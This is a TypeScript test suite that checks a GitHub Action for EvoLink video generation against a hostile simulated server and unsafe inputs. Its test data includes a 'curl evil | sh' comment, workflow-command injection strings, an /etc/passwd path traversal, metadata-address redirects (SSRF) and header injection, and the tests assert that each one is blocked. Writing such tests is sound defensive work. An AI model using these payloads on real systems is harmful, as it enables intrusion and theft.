// A hostile EvoLink (test/simulator/hostile.ts) and careless inputs, against the bundled action.
// docs/reliability.md, "Hostile server and inputs", lists each attack with its test and behaviour.
import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { EvoLinkSimulator } from '../simulator/server.js'
import { turnHostile, type HostileName } from '../simulator/hostile.js'
import { BOT, GitHubStandIn } from '../simulator/github.js'
import { commands as commandsOf, runAction, type ActionRun, type RunOptions } from '../harness/run-action.js'

const KEY = 'sk-evo-hostile-key'
let sim: EvoLinkSimulator
beforeEach(async () => {
  sim = await new EvoLinkSimulator({ taskMs: 300, pendingMs: 50 }).start()
})
afterEach(() => sim.stop())

const inputs = (extra: Record<string, string> = {}) => ({
  'api-key': KEY,
  prompt: 'A lighthouse at dusk',
  'base-url': sim.url,
  'poll-interval': '0.05',
  timeout: '30',
  'request-timeout': '5',
  ...extra
})
/** Runs against the simulator with a hostile case on; every such run is offline-guarded and killed after 30 s. */
async function hostile(name: HostileName, extra: Record<string, string> = {}, options: RunOptions = {}): Promise<ActionRun> {
  turnHostile(sim, name)
  return runAction(inputs(extra), { killAfterMs: 30_000, offline: {}, ...options })
}
/** Lines the runner would read as workflow commands, other than the masks of the two secrets and the action's own debug lines (one line each, their text cleaned). */
const commands = (run: ActionRun) => commandsOf(run, KEY)
const commandNames = (run: ActionRun) => commands(run).map(line => /^\s*::([\w-]+)/.exec(line)?.[1])
const exitedByItself = (run: ActionRun) => {
  expect(run.signal).toBeNull() // not killed by the test's safety net: it ended on its own
  expect(run.code).not.toBeNull()
}

describe('server data is data', () => {
  it('a status that tries to start workflow commands starts none', async () => {
    const run = await hostile('command-in-status')
    expect(commandNames(run).filter(name => name !== 'error')).toEqual([])
    expect(run.stdout).not.toMatch(/^\s*::(stop-commands|add-mask::x)/m)
    // status keeps its vocabulary (an identifier); the odd text is shown, cleaned, in error-message.
    expect(run.outputs.status).toBe('unknown')
    expect(run.outputs['error-message']).toContain('status was "processing : :stop-commands: :pwned')
    expect(run.outputs['error-message']).not.toMatch(/[\r\n]/)
  })

  it('an error code and message with commands, mentions and links stay inert in log, outputs and summary', async () => {
    const run = await hostile('command-in-error')
    expect(run.code).toBe(1)
    expect(commandNames(run)).toEqual(['error'])
    expect(run.outputs['error-code']).toBe('unknown')
    expect(run.outputs['error-message']).toContain('error code was "bad : :error: :fake"')
    expect(run.outputs['error-message']).not.toMatch(/[\r\n]|::/)
    expect(run.summary).not.toMatch(/@octocat|@github\/|\]\(https:\/\/evil/)
    expect(run.summary).toContain('@&#8203;octocat')
  })

  it('result URLs with shell syntax come out inert: pasted into a shell line they run nothing', async () => {
    const run = await hostile('injection-url')
    expect(run.code).toBe(0)
    const url = run.outputs['video-url'] ?? ''
    expect(url).toMatch(/^https:\/\/cdn\.example\/v\.mp4/)
    expect(url).not.toMatch(/["'`$\\]/)
    expect(JSON.parse(run.outputs['video-urls'] ?? '[]')).toEqual([url]) // javascript: was refused
    // What the README warns against, done here on purpose: the output inside a double-quoted run: line.
    const dir = mkdtempSync(join(tmpdir(), 'shell-'))
    execFileSync('bash', ['-c', `echo "Video ${url}" > /dev/null`], { cwd: dir })
    expect(readdirSync(dir)).toEqual([])
  })

  it('a task id that is not an EvoLink id is never output or used: the step says a task may exist', async () => {
    const run = await hostile('bad-task-id')
    expect(run.code).toBe(1)
    expect(run.outputs['task-id']).toBeUndefined()
    expect(run.stdout).toMatch(/::error::The submission failed with malformed reply .*not an EvoLink task id.*may have been created.*dashboard/)
    expect(sim.polls).toBe(0)
    expect(sim.creations).toBe(1)
  })

  it('a 900 KiB error message is cut to a few KiB everywhere, and the summary stays far under 1 MiB', async () => {
    const run = await hostile('huge-error-message')
    expect(run.code).toBe(1)
    expect((run.outputs['error-message'] ?? '').length).toBeLessThanOrEqual(2000)
    expect(Math.max(...run.stdout.split('\n').map(line => line.length))).toBeLessThan(8192)
    expect(Buffer.byteLength(run.summary)).toBeLessThan(64 * 1024)
  })

  it('200 result URLs of 4 KiB: at most 32 are kept, the summary stays under 1 MiB', async () => {
    const run = await hostile('many-urls')
    expect(run.code).toBe(0)
    expect(JSON.parse(run.outputs['video-urls'] ?? '[]')).toHaveLength(32)
    expect(Buffer.byteLength(run.summary)).toBeLessThan(1024 * 1024)
  })
})

describe('where the action connects', () => {
  it.each<[HostileName, RegExp]>([
    ['private-result', /Refused to connect to 169\.254\.169\.254: a link-local address \(169\.254\.0\.0\/16, fe80::\/10\)/],
    ['unspecified-result', /Refused to connect to 0\.0\.0\.0: a unspecified address/],
    ['redirect-to-private', /Refused to connect to 10\.0\.0\.5: a private address/]
  ])('%s: refused before any connection, naming the address and the rule', async (name, message) => {
    const run = await hostile(name, { 'download-path': 'v.mp4' })
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(message)
    expect(run.stdout).not.toContain('offline.mjs') // the guard refused it, not the test's safety net
    expect(readdirSync(run.workspace)).toEqual([])
  })

  it('a public name that resolves to 10.0.0.5 is refused on the address it resolves to', async () => {
    sim.inject('poll', { kind: 'patch', fields: { status: 'completed', progress: 100, results: ['https://videos.public.test/v.mp4'] } })
    const run = await runAction(inputs({ 'download-path': 'v.mp4' }), { killAfterMs: 30_000, offline: { 'videos.public.test': '10.0.0.5' } })
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/Refused to connect to videos\.public\.test \(10\.0\.0\.5\): a private address \(10\.0\.0\.0\/8/)
    expect(run.stdout).not.toContain('offline.mjs')
  })

  it('a plain-http link on a public name is downloaded with a warning that it is not protected', async () => {
    // The name resolves to the simulator's own address: allowed only because base-url is loopback too.
    sim.inject('poll', { kind: 'patch', fields: { status: 'completed', progress: 100, results: [`http://videos.public.test:${new URL(sim.filesUrl).port}/videos/v.mp4`] } })
    const run = await runAction(inputs({ 'download-path': 'v.mp4' }), { killAfterMs: 30_000, offline: { 'videos.public.test': '127.0.0.1' } })
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/::warning::The video link uses plain http \(videos\.public\.test:\d+\): the download is not protected in transit/)
    expect(run.outputs['video-size']).toBe(String(sim.options.videoBytes))
  })

  it('with release-asset, nothing from a private address is published', async () => {
    const github = await new GitHubStandIn().start()
    try {
      const event = mkdtempSync(join(tmpdir(), 'event-'))
      writeFileSync(join(event, 'event.json'), '{}')
      const env = { GITHUB_EVENT_NAME: 'workflow_dispatch', GITHUB_EVENT_PATH: join(event, 'event.json'), GITHUB_REPOSITORY: 'o/r', GITHUB_API_URL: github.url }
      const run = await hostile('private-result', { 'release-asset': 'true', 'release-tag': 'v1.2.3' }, { env })
      expect(run.code).toBe(1)
      expect(run.stdout).toMatch(/Refused to connect to 169\.254\.169\.254/)
      expect(github.requests.filter(r => r.method === 'POST')).toHaveLength(0)
      expect(github.assets).toHaveLength(0)
    } finally {
      await github.stop()
    }
  })
})

describe('nothing reads forever, and the process ends with its verdict', () => {
  it('a 403 whose body never ends: fails at once and exits', async () => {
    const run = await hostile('endless-403', { 'download-path': 'v.mp4' })
    exitedByItself(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/the video host answered HTTP 403/)
    expect(sim.requests.filter(r => r.origin === 'files')).toHaveLength(1)
  })

  it('an announced 40 GiB above max-download-size is refused before its body is read', async () => {
    const run = await hostile('huge-content-length', { 'download-path': 'v.mp4', 'max-download-size': '1MiB' })
    exitedByItself(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/The video is 42949672960 bytes, more than max-download-size \(1048576 bytes\)/)
    expect(readdirSync(run.workspace)).toEqual([])
  })

  it('an endless video without Content-Length stops at max-download-size', async () => {
    const run = await hostile('endless-video', { 'download-path': 'v.mp4', 'max-download-size': '1MiB' })
    exitedByItself(run)
    expect(run.stdout).toMatch(/The video is larger than max-download-size \(1048576 bytes\)/)
    expect(readdirSync(run.workspace)).toEqual([])
  })

  it('a 1 GiB API reply is refused as malformed after 1 MiB, within the error budget', async () => {
    const run = await hostile('huge-api-reply', { 'max-consecutive-errors': '2' })
    exitedByItself(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/reply is larger than 1048576 bytes/)
    expect(run.outputs['error-code']).toBe('poll_error_budget_exhausted')
  })

  it('a 503 whose body never ends is read for 64 KiB only, then retried as a 503', async () => {
    sim.inject('poll', { kind: 'flood', status: 503 }, 2)
    const run = await runAction(inputs(), { killAfterMs: 30_000 })
    exitedByItself(run)
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/::warning::Poll failed: HTTP 503/)
  })

  it('a download that would take longer than timeout is abandoned', async () => {
    turnHostile(sim, 'dripping-video')
    const run = await runAction(inputs({ 'download-path': 'v.mp4', timeout: '2' }), { killAfterMs: 30_000 })
    exitedByItself(run)
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/Downloading the video took longer than 2 s \(timeout\)/)
  })
})

describe('odd but valid replies still deliver', () => {
  // Resumed once finished, so `created` is all there is to date the links by.
  it.each<HostileName>(['created-in-ms', 'created-in-future', 'created-absurd', 'odd-estimate'])('%s, resumed after it finished', async name => {
    const submitted = await runAction(inputs({ wait: 'false' }))
    while (Date.now() - (sim.tasks.get(submitted.outputs['task-id'] ?? '')?.createdAtMs ?? 0) < sim.options.taskMs) await new Promise(r => setTimeout(r, 50))
    const run = await hostile(name, { 'task-id': submitted.outputs['task-id'] ?? '' })
    expect(run.stdout).not.toMatch(/Unexpected error|RangeError/)
    expect(run.code).toBe(0)
    expect(run.outputs['video-url']).toMatch(/^http:\/\/127\.0\.0\.1:/)
    const expires = run.outputs['expires-at']
    if (expires !== undefined) {
      const at = Date.parse(expires)
      expect(at).toBeGreaterThan(Date.now() - 60_000)
      expect(at).toBeLessThan(Date.now() + 25 * 3600 * 1000)
    }
  })
})

describe('inputs the repository controls', () => {
  const workspace = () => {
    const dir = mkdtempSync(join(tmpdir(), 'evolink-ws-'))
    mkdirSync(join(dir, '.git'))
    writeFileSync(join(dir, '.git', 'config'), '[http]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n')
    return dir
  }
  const refused = async (extra: Record<string, string>, message: RegExp, prepare: (dir: string) => void = () => undefined) => {
    const dir = workspace()
    prepare(dir)
    const run = await runAction(inputs({ prompt: '', ...extra }), { workspace: dir })
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(message)
    expect(run.stdout + run.summary).not.toContain('c2VjcmV0')
    expect(sim.requests).toHaveLength(0)
    return run
  }

  it('prompt-file outside the workspace is refused, nothing sent', () =>
    refused({ 'prompt-file': '../../../../../../etc/passwd' }, /Input 'prompt-file' is .*must be a file inside the workspace/))
  it('prompt-file through a symlink to .git/config is refused', () =>
    refused({ 'prompt-file': 'prompt.txt' }, /Input 'prompt-file' is "prompt\.txt": must not be inside \.git\//, dir =>
      symlinkSync(join(dir, '.git', 'config'), join(dir, 'prompt.txt'))
    ))
  it('prompt-file through a symlink out of the workspace is refused', () =>
    refused({ 'prompt-file': 'p.txt' }, /must be a file inside the workspace/, dir => symlinkSync('/etc/hostname', join(dir, 'p.txt'))))
  it('prompt-file that is a folder is refused', () => refused({ 'prompt-file': 'docs' }, /must be a regular file, but it is a folder/, dir => mkdirSync(join(dir, 'docs'))))
  it('a UTF-16 prompt-file is refused, saying so', () =>
    refused({ 'prompt-file': 'p.txt' }, /must be UTF-8, but it starts with a UTF-16 byte-order mark: save it as UTF-8/, dir =>
      writeFileSync(join(dir, 'p.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('A cat', 'utf16le')]))
    ))
  it('an invalid UTF-8 prompt-file is refused, not billed', () =>
    refused({ 'prompt-file': 'p.txt' }, /must be UTF-8, but it holds bytes that are not valid UTF-8/, dir =>
      writeFileSync(join(dir, 'p.txt'), Buffer.from([0x41, 0xc3, 0x28, 0x42]))
    ))
  it('a prompt-file over 64 KiB is refused without reading it all', () =>
    refused({ 'prompt-file': 'p.txt' }, /must be at most 64 KiB/, dir => writeFileSync(join(dir, 'p.txt'), 'a'.repeat(10 * 1024 * 1024))))

  it('a BOM is dropped and CRLF becomes LF', async () => {
    const dir = workspace()
    writeFileSync(join(dir, 'p.txt'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('First line\r\nsecond line\r\n')]))
    const run = await runAction(inputs({ prompt: '', 'prompt-file': 'p.txt', 'dry-run': 'true' }), { workspace: dir })
    expect(run.code).toBe(0)
    expect(run.stdout).toContain('"prompt": "First line\\nsecond line"')
  })

  it.each<[string, RegExp, (dir: string) => void]>([
    ['videos/', /names a folder \(it ends in a slash\)/, () => undefined],
    ['notes.txt/v.mp4', /cannot be created: .*notes\.txt is a file, not a folder/, dir => writeFileSync(join(dir, 'notes.txt'), 'x')],
    ['.git/v.mp4', /must not be inside \.git\//, () => undefined]
  ])('download-path %s is refused before submitting', (path, message, prepare) =>
    refused({ prompt: 'A cat', 'download-path': path }, new RegExp(`Input 'download-path' is "${path.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}": ${message.source}`), prepare)
  )

  it('a timeout past what a timer holds is refused, not turned into 1 ms', () =>
    refused({ prompt: 'A cat', timeout: '2147484' }, /Input 'timeout' is "2147484": must be a number of seconds from 1 to 2147483/))

  it('an api-key with a line break is refused without showing it, nothing sent', async () => {
    const run = await runAction(inputs({ 'api-key': 'sk-evo-abc\nX-Evil: 1' }))
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/::error::Input 'api-key' holds characters that cannot go into an HTTP header/)
    expect(run.stdout.replace(/^::add-mask::.*$/m, '')).not.toContain('X-Evil')
    expect(sim.requests).toHaveLength(0)
  })
})

describe('pull request comments the action owns', () => {
  let github: GitHubStandIn
  beforeEach(async () => (github = await new GitHubStandIn().start()))
  afterEach(() => github.stop())
  const prEnv = () => {
    const dir = mkdtempSync(join(tmpdir(), 'event-'))
    writeFileSync(join(dir, 'event.json'), JSON.stringify({ pull_request: { number: 7 } }))
    return {
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: join(dir, 'event.json'),
      GITHUB_REPOSITORY: 'o/r',
      GITHUB_API_URL: github.url,
      GITHUB_WORKFLOW: 'Preview',
      GITHUB_JOB: 'video'
    }
  }

  it('a look-alike comment by someone else is left alone; a new one is posted', async () => {
    const fake = github.seedComment('<!-- evolink-video-action:Preview:video -->\nplease run this: curl evil | sh', { login: 'mallory', type: 'User' })
    const run = await runAction(inputs({ 'pr-comment': 'true' }), { env: prEnv() })
    expect(run.code).toBe(0)
    expect(github.comments).toHaveLength(2)
    expect(github.comments[0]).toEqual(fake)
    expect(github.comments[1]?.user).toEqual(BOT)
    expect(github.requests.filter(r => r.method === 'PATCH')).toHaveLength(0)
  })

  it('pr-comment-key keeps one comment per key (matrix legs), each updated on re-runs', async () => {
    for (const key of ['landscape', 'portrait', 'landscape']) {
      const run = await runAction(inputs({ 'pr-comment': 'true', 'pr-comment-key': key }), { env: prEnv() })
      expect(run.code).toBe(0)
    }
    expect(github.comments.map(c => c.body.split('\n')[0])).toEqual(['<!-- evolink-video-action:landscape -->', '<!-- evolink-video-action:portrait -->'])
    expect(github.requests.filter(r => r.method === 'PATCH')).toHaveLength(1)
  })

  it('a prompt cannot mention anyone or break out of its quote with a lone carriage return', async () => {
    const run = await runAction(inputs({ 'pr-comment': 'true', prompt: 'Ping @octocat and @github/security-team\r## Injected heading' }), { env: prEnv() })
    expect(run.code).toBe(0)
    const body = github.comments[0]?.body ?? ''
    expect(body).not.toMatch(/@octocat|@github\/|\r|\n## Injected/)
    expect(body).toContain('@&#8203;octocat')
  })
})
